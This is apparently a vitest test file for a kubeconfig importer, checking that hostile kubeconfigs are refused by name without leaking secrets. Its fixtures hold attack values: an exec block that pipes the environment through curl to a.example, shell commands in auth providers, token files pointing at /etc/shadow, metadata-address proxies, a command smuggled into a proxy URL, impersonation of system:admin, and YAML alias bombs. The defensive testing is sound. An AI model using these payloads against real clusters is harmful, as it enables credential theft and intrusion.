import { describe, expect, test } from 'vitest'
import { importKubeconfig } from './kubeconfig'
import { KUBECONFIG_MAX } from './kubeconfig-text'

const CERTIFICATE = '-----BEGIN CERTIFICATE-----\nTUlJQg==\n-----END CERTIFICATE-----'
const KEY = '-----BEGIN RSA PRIVATE KEY-----\nTUlJQg==\n-----END RSA PRIVATE KEY-----'
const SECRET = 'a-secret-that-is-never-repeated'
const b64 = (text: string) => Buffer.from(text).toString('base64')

/** A kubeconfig with one context; `cluster`, `user`, `context` and `top` are lines of YAML in its places. */
function file({ cluster = '', user = `token: ${SECRET}`, context = '', top = '' } = {}): string {
  const indent = (text: string, by: number) => text.replaceAll('\n', `\n${' '.repeat(by)}`)
  return `apiVersion: v1
kind: Config
${top}
current-context: dev
clusters:
- name: c1
  cluster:
    server: https://10.0.0.7:6443
    ${indent(cluster, 4)}
users:
- name: u1
  user:
    ${indent(user, 4)}
contexts:
- name: dev
  context:
    cluster: c1
    user: u1
    ${indent(context, 4)}
`
}

const EXEC = `exec:
  apiVersion: client.authentication.k8s.io/v1
  command: /bin/sh
  args: ["-c", "curl http://a.example/$(env | base64)"]`

/** What is hostile in the file, the file, and what the refusal names. */
const HOSTILE: [string, string, RegExp][] = [
  ['a program', file({ user: EXEC }), /users\[u1\]\.user\.exec is refused.*run a program.*"token"/],
  ['a program beside a token', file({ user: `token: ${SECRET}\n${EXEC}` }), /user\.exec/],
  ['an empty program', file({ user: `token: ${SECRET}\nexec: {}` }), /user\.exec/],
  [
    'gcp with a command',
    file({ user: 'auth-provider:\n  name: gcp\n  config:\n    cmd-path: /bin/sh\n    cmd-args: -c id' }),
    /user\.auth-provider is refused.*"token"/,
  ],
  ['azure with a command', file({ user: 'auth-provider:\n  name: azure\n  config: {cmd-path: /bin/sh}' }), /user\.auth-provider/],
  [
    'oidc, which asks its issuer',
    file({ user: 'auth-provider:\n  name: oidc\n  config: {idp-issuer-url: "http://169.254.169.254"}' }),
    /auth-provider/,
  ],
  ['a token file of a provider', file({ user: 'auth-provider:\n  config: {tokenFile: /etc/shadow}' }), /auth-provider/],
  ['a token file', file({ user: 'tokenFile: /etc/shadow' }), /user\.tokenFile is refused.*put the content of that file as "token"/],
  ['a token file, the other way to write it', file({ user: 'token-file: /etc/shadow' }), /user\.token-file/],
  [
    'a certificate by path',
    file({ user: 'client-certificate: /root/a.crt\nclient-key: /root/a.key' }),
    /client-certificate is refused.*"client-certificate-data"/,
  ],
  [
    'a key by path',
    file({ user: `client-certificate-data: ${b64(CERTIFICATE)}\nclient-key: ../../etc/ssl/key` }),
    /client-key is refused.*"client-key-data"/,
  ],
  [
    'a CA by path',
    file({ cluster: 'certificate-authority: /etc/passwd' }),
    /certificate-authority is refused.*"certificate-authority-data"/,
  ],
  ['a proxy', file({ cluster: 'proxy-url: http://169.254.169.254:3128' }), /clusters\[c1\]\.cluster\.proxy-url is refused/],
  ['a SOCKS proxy with a command', file({ cluster: 'proxy-url: "socks5://;id;@a"' }), /proxy-url/],
  [
    'an unchecked server',
    file({ cluster: 'insecure-skip-tls-verify: true' }),
    /insecure-skip-tls-verify is refused.*"certificate-authority-data"/,
  ],
  ['an unchecked server, quoted', file({ cluster: 'insecure-skip-tls-verify: "true"' }), /insecure-skip-tls-verify/],
  ['impersonation', file({ user: `token: ${SECRET}\nas: system:admin` }), /user\.as is refused.*impersonated/],
  ['impersonation of false', file({ user: `token: ${SECRET}\nas: false` }), /user\.as is refused/],
  ['impersonated groups', file({ user: `token: ${SECRET}\nas-groups: ["system:masters"]` }), /user\.as-groups/],
  ['an impersonated id', file({ user: `token: ${SECRET}\nas-uid: "1"` }), /user\.as-uid/],
  ['impersonated extras', file({ user: `token: ${SECRET}\nas-user-extra: {scopes: [all]}` }), /user\.as-user-extra/],
  ['a password', file({ user: 'username: admin\npassword: x' }), /user\.username is refused.*user\.password is refused/],
  ['http', file().replace('https://', 'http://'), /clusters\[c1\]\.cluster\.server: An address such as https/],
  ['a server that is a file', file().replace('https://10.0.0.7:6443', 'file:///etc/passwd'), /cluster\.server: An address/],
  ['a server with a password', file().replace('https://', `https://admin:${SECRET}@`), /cluster\.server: .*no user name/],
  ['a server with a query', file().replace(':6443', ':6443/?redirect=http://a'), /cluster\.server: .*no query/],
  ['no server', file().replace('server: https://10.0.0.7:6443', ''), /cluster\.server/],
  ['a list as server', file().replace('https://10.0.0.7:6443', '[https://a.example]'), /cluster\.server/],
  ['a CA that is no base64', file({ cluster: 'certificate-authority-data: "../../x"' }), /certificate-authority-data is not base64/],
  ['a CA that is a key', file({ cluster: `certificate-authority-data: ${b64(KEY)}` }), /certificate-authority-data: A certificate as text/],
  ['a TLS name that is none', file({ cluster: 'tls-server-name: "a b"' }), /tls-server-name: A host name/],
  ['a token of two lines', file({ user: `token: "${SECRET}\\r\\nX-Forwarded-For: a"` }), /user\.token is not what it should be.*one line/],
  ['a token that is a mapping', file({ user: `token: {a: ${SECRET}}` }), /user\.token is not/],
  ['a token that kubectl hid', file({ user: 'token: REDACTED' }), /user\.token holds what kubectl prints in place of a secret.*--raw/],
  ['a CA that kubectl hid', file({ cluster: 'certificate-authority-data: DATA+OMITTED' }), /certificate-authority-data holds what kubectl/],
  ['no credential', file({ user: 'token:' }).replace('token:', ''), /users\[u1\]\.user holds no credential/],
  [
    'a token and a certificate',
    file({ user: `token: ${SECRET}\nclient-certificate-data: ${b64(CERTIFICATE)}` }),
    /token stands beside a client certificate/,
  ],
  [
    'half a pair',
    file({ user: `client-certificate-data: ${b64(CERTIFICATE)}` }),
    /client-certificate-data and client-key-data belong together/,
  ],
  [
    'a key with a passphrase',
    file({ user: `client-certificate-data: ${b64(CERTIFICATE)}\nclient-key-data: ${b64(KEY.replaceAll('RSA', 'ENCRYPTED'))}` }),
    /without a passphrase/,
  ],
  ['a namespace that is a path', file({ context: 'namespace: ../kube-system' }), /context\.namespace: A Kubernetes name/],
  ['an unknown field of the user', file({ user: `token: ${SECRET}\nimpersonate: admin` }), /user\.impersonate is refused: no such field/],
  ['an unknown field of the cluster', file({ cluster: 'proxyUrl: http://a' }), /cluster\.proxyUrl is refused/],
  ['an unknown field of the context', file({ context: 'execute: id' }), /context\.execute is refused/],
  ['an unknown field of the file', file({ top: 'include: /etc/passwd' }), /^include is refused/],
  ['a field of the prototype', file({ user: `token: ${SECRET}\n"__proto__": {exec: x}` }), /user\.__proto__ is refused/],
  ['a constructor', file({ user: `token: ${SECRET}\nconstructor: x` }), /user\.constructor is refused/],
  ['a merge key', file({ user: `"<<": {exec: x}\ntoken: ${SECRET}` }), /\(an odd name\) is refused/],
  ['an anchor', file({ user: `&a token: ${SECRET}` }), /YAML anchor in line 13/],
  ['a bomb of aliases', `a: &a [x,x,x,x]\nb: &b [*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b]\n${file()}`, /YAML anchor in line 1/],
  ['an alias to nothing', file({ user: 'token: *secret' }), /YAML alias in line 13/],
  ['a tag of code', file({ user: "token: !!js/function 'function () {}'" }), /YAML tag in line 13/],
  ['a tag of bytes', file({ user: 'token: !!binary aGk=' }), /YAML tag/],
  ['a second document', `${file()}---\n${file()}`, /more than one YAML document/],
  ['a field twice', file({ user: `token: ${SECRET}\ntoken: other` }), /A field stands twice in line 14/],
  ['a name twice', file().replace('contexts:', `- name: u1\n  user: {token: ${SECRET}}\ncontexts:`), /Two of users are named u1/],
  ['another kind', file().replace('kind: Config', 'kind: Secret'), /This is no kubeconfig: its kind/],
  ['no YAML', '{{{', /The kubeconfig is not YAML in line 2/],
  ['only text', SECRET, /The kubeconfig is no mapping/],
  ['nothing', '', /The kubeconfig is no mapping/],
  ['a list of contexts that is none', 'contexts: x', /contexts is no list/],
  ['no context', 'contexts: []', /has no context/],
  ['a context that names no user', file().replace('    user: u1\n', ''), /names no user/],
  ['a context with a user that is not there', file().replace('user: u1\n', 'user: u2\n'), /the user u2, which is not in users/],
  ['a file without end', 'x'.repeat(KUBECONFIG_MAX + 1), /longer than 500 kB/],
  ['deep brackets', `a: ${'['.repeat(200_000)}`, /nested deeper than 40/],
  ['deep lists', '- '.repeat(200_000), /nested deeper than 40/],
  ['deep mappings', Array.from({ length: 500 }, (_, i) => `${' '.repeat(i)}a:`).join('\n'), /nested deeper than 40/],
  ['deep keys', '? '.repeat(200_000), /nested deeper than 40/],
  ['many fields', Array.from({ length: 40_000 }, (_, i) => `a${i}: x`).join('\n'), /a0 is refused/],
]

describe('a kubeconfig', () => {
  test.each(HOSTILE)('with %s is refused by name, and no secret is repeated', (_, text, named) => {
    const began = performance.now()
    const result = importKubeconfig(text)
    expect(performance.now() - began).toBeLessThan(5_000)
    expect(result.ok ? 'taken' : result.message).toMatch(named)
    expect(JSON.stringify(result)).not.toContain(SECRET)
    expect(JSON.stringify(result).length).toBeLessThan(4_000)
  })

  test('with a token gives server, namespace and credential', () => {
    expect(importKubeconfig(file())).toEqual({
      ok: true,
      context: 'dev',
      contexts: ['dev'],
      config: { server: 'https://10.0.0.7:6443', ca: null, tlsServerName: null, namespace: 'default' },
      credential: { token: SECRET },
    })
  })

  test('with a client certificate, CA, TLS name and namespace, as JSON too', () => {
    const text = file({
      cluster: `certificate-authority-data: ${b64(`${CERTIFICATE}\n`)}\ntls-server-name: kubernetes\ninsecure-skip-tls-verify: false\nproxy-url: ""`,
      user: `client-certificate-data: ${b64(CERTIFICATE)}\nclient-key-data: ${b64(KEY)}\nexec: null`,
      context: 'namespace: models\nextensions: [{name: a, extension: {last-update: x}}]',
      top: 'preferences: {}',
    })
    const expected = {
      ok: true,
      config: { server: 'https://10.0.0.7:6443', ca: CERTIFICATE, tlsServerName: 'kubernetes', namespace: 'models' },
      credential: { clientCertificate: CERTIFICATE, clientKey: KEY },
    }
    expect(importKubeconfig(text)).toMatchObject(expected)
    const json = {
      kind: 'Config',
      clusters: [{ name: 'a', cluster: { server: 'https://a.example/k8s/clusters/c-1' } }],
      users: [{ name: 'b', user: { token: SECRET } }],
      contexts: [{ name: 'c', context: { cluster: 'a', user: 'b', namespace: 'n' } }],
    }
    expect(importKubeconfig(JSON.stringify(json))).toMatchObject({
      ok: true,
      context: 'c',
      config: { server: 'https://a.example/k8s/clusters/c-1' },
    })
  })

  test('of several contexts gives the one that was chosen, and judges no other', () => {
    const text = file()
      .replace('users:\n', `users:\n- name: eks\n  user:\n    exec: {command: aws}\n- name: other\n  user: {token: ${SECRET}-2}\n`)
      .replace(
        'contexts:\n',
        'contexts:\n- name: aws\n  context: {cluster: c1, user: eks}\n- name: two\n  context: {cluster: c1, user: other, namespace: n2}\n',
      )
    expect(importKubeconfig(text)).toMatchObject({ ok: true, context: 'dev', contexts: ['aws', 'two', 'dev'] })
    expect(importKubeconfig(text, 'two')).toMatchObject({ ok: true, config: { namespace: 'n2' }, credential: { token: `${SECRET}-2` } })
    expect(importKubeconfig(text, 'aws')).toMatchObject({ ok: false, message: expect.stringContaining('users[eks].user.exec') })
    expect(importKubeconfig(text, 'three')).toEqual({
      ok: false,
      path: 'context',
      message: 'It has no context of this name. Choose one of: aws, two, dev.',
      contexts: ['aws', 'two', 'dev'],
    })
    expect(importKubeconfig(text.replace('current-context: dev', ''))).toMatchObject({
      ok: false,
      path: 'context',
      message: 'Choose one of its contexts: aws, two, dev.',
    })
  })
})
